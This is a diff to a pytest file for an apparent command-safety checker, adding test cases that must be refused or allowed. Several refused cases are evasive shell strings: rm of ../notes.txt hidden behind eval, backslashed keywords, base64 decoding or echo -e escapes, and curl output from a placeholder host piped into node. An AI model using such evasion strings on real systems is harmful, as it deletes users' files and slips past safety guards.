@@ -15,6 +15,7 @@
 from __future__ import annotations
 
 import shutil
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -51,6 +52,8 @@ _WRAPPED_KEPT = [
     "env -i PATH=/usr/bin make",
     "env -i bash -c 'echo hi'",
     "env -u X bash -c 'rm -f x.o'",
+    "env -u VIRTUAL_ENV pip list",  # (rev58) a variable the line never set: nothing taken
+    "env -u HOME ls ~",
 ]
 _wrapped = home_project_verdicts(_WRAPPED_AWAY, _WRAPPED_KEPT)
 test_a_variable_a_wrapper_changes_is_not_read_with_the_lines_value = _wrapped[0]
@@ -76,6 +79,8 @@ _APPENDED = [
     "x+=(~/notes.txt); rm -f $x",
     "x=(); x+=(a ~/notes.txt); rm -f ${x[@]}",
     "declare -a x; x+=(~/notes.txt); rm -f ${x[@]}",
+    'x+=../notes.txt; rm -f "$x"',  # (rev58) a scalar too
+    "x+=~/notes.txt; rm -f $x",
 ]
 _APPENDED_KEPT = [
     "x+=(a.o b.o); rm -f ${x[@]}",
@@ -130,6 +135,7 @@ _NODE_INPUT = [
     f'echo "{_REMOVE_NOTE}" | node --print --',
     f'node -p <<< "{_REMOVE_NOTE}"',
     "curl -s https://x.example.com/a.js | node -p",
+    "curl -s https://x.example.com/a.js | node --print=",  # (rev58) an empty value is none
 ]
 _NODE_KEPT = [
     "node -p 1+1",
@@ -188,6 +194,15 @@ _DASH_TEXTS = [
     "printf '#!/bin/sh\\n[[ a > ../notes.txt ]]\\n' > y.sh; chmod +x y.sh; ./y.sh",
     "echo 'declare x=a.o' | dash",
     "busybox sh -c 'x+=1'",
+    # (rev58) a keyword after a quote or a backslash, pushd (dash has none: it stays where it was), system()'s /bin/sh
+    """sh -c 'x=../notes.txt; eval "declare x=x.o"; rm -f "$x"'""",
+    r"""sh -c 'x=../notes.txt; \declare x=x.o; rm -f "$x"'""",
+    """sh -c 'x=../notes.txt; eval "x+=.bak"; rm -f "$x"'""",
+    "sh -c 'cd ..; pushd p; rm -f notes.txt'",
+    r"""python3 -c 'import os; os.system("x=../notes.txt; x+=.bak; rm -f \"$x\"")'""",
+    # (rev58) dash's echo always decodes, its printf leaves \u as it is
+    r"""sh -c 'echo "a\nrm -f ../notes.txt" | sh'""",
+    r"""sh -c "printf 'echo \\u0023; rm -f ../notes.txt' | bash" """,
 ]
 _DASH_KEPT = [
     "sh -c '[ -f x ] && echo ok'",
@@ -195,6 +210,14 @@ _DASH_KEPT = [
     "echo 'echo hi' | sh",
     "bash -c '[[ -f x ]] && echo ok'",
     "printf '#!/bin/bash\\n[[ -f x ]]\\n' > y.sh; chmod +x y.sh; ./y.sh",
+    # (rev58) POSIX text the first reading took for bash's
+    """sh -c "grep -v '^$' f.txt" """,
+    """sh -c "ls | grep '.txt$'" """,
+    r"""sh -c 'echo "a\"b"'""",
+    r"""sh -c 'echo "Usage: x\n"'""",
+    "sh -c 'make CFLAGS+=-O2'",
+    r"""sh -c 'printf "\x1b[32mok\x1b[0m\n"'""",
+    "sh -c 'cd src && make'",
 ]
 _dash = home_project_verdicts(_DASH_TEXTS, _DASH_KEPT)
 test_bash_only_syntax_in_a_posix_shs_text_is_not_allowed = _dash[0]
@@ -240,6 +263,8 @@ _MISREAD_VALUES = [
     "IFS=: read -r a b <<< 'x:../notes.txt'; rm -f \"$b\"",
     'read a <<EOF\n../notes.tx\\t\nEOF\nrm -f "$a"',  # read without -r drops the backslash
     'x=../notes.txt; read a <<EOF\n$x\nEOF\nrm -f "$a"',
+    r"""echo -e "echo \\' ; rm -f ../notes.txt ; echo \\'" | bash""",  # (rev58) echo -e keeps the backslash of \'
+    "rm -f \"$(echo 'Li4vbm90ZXMudHh0 LmJhaw==' | base64 -d)\"",  # GNU base64 stops at the blank
 ]
 _VALUES_KEPT = [
     "echo -e 'a\\tb'",
@@ -250,6 +275,7 @@ _VALUES_KEPT = [
     'rm -f "$(echo eC5v | base64 -d)"',
     'read -r a <<< x.o; rm -f "$a"',
     'read -r a <<EOF\nx.o\nEOF\nrm -f "$a"',
+    'IFS=, read -r a b <<< "x.o,y.o"; rm -f "$a" "$b"',  # (rev58) an IFS of no blank is split as bash splits
 ]
 _values = home_project_verdicts(_MISREAD_VALUES, _VALUES_KEPT)
 test_a_value_only_the_run_works_out_is_not_allowed = _values[0]
@@ -282,3 +308,17 @@ def test_the_home_after_a_slash_loses_the_note_unguarded_and_is_refused(
     tmp_path: Path, home_project: Loaded, payload: str
 ) -> None:
     lost_unguarded_then_blocked(tmp_path, home_project, payload, note_lost)
+
+
+def test_read_splits_at_an_ifs_of_no_blank_as_bash_does() -> None:
+    """(rev58) values.read_fields against bash itself: IFS of `:`, `,` or both, 1 or 3 names, edge lines."""
+    from engine.policy.values import read_fields
+
+    three = 'IFS="$1" read -r v0 v1 v2 <<< "$2"; printf "%s\\x01" "$v0" "$v1" "$v2"'
+    one = 'IFS="$1" read -r v0 <<< "$2"; printf "%s\\x01" "$v0"'
+    lines = ["x:y", "x:y:", "x::y", ":x:y", "x:y:z", "x", "x:", " x : y ", "a,b:c", "", "::", "x,,y,", "a:b:c:d:"]
+    for ifs in (":", ",", ":,"):
+        for line in lines:
+            for count, text in ((1, one), (3, three)):
+                out = subprocess.run(["bash", "-c", text, "_", ifs, line], capture_output=True, text=True, check=True)
+                assert read_fields(line, count, ifs) == out.stdout.split("\x01")[:-1], (ifs, line, count)
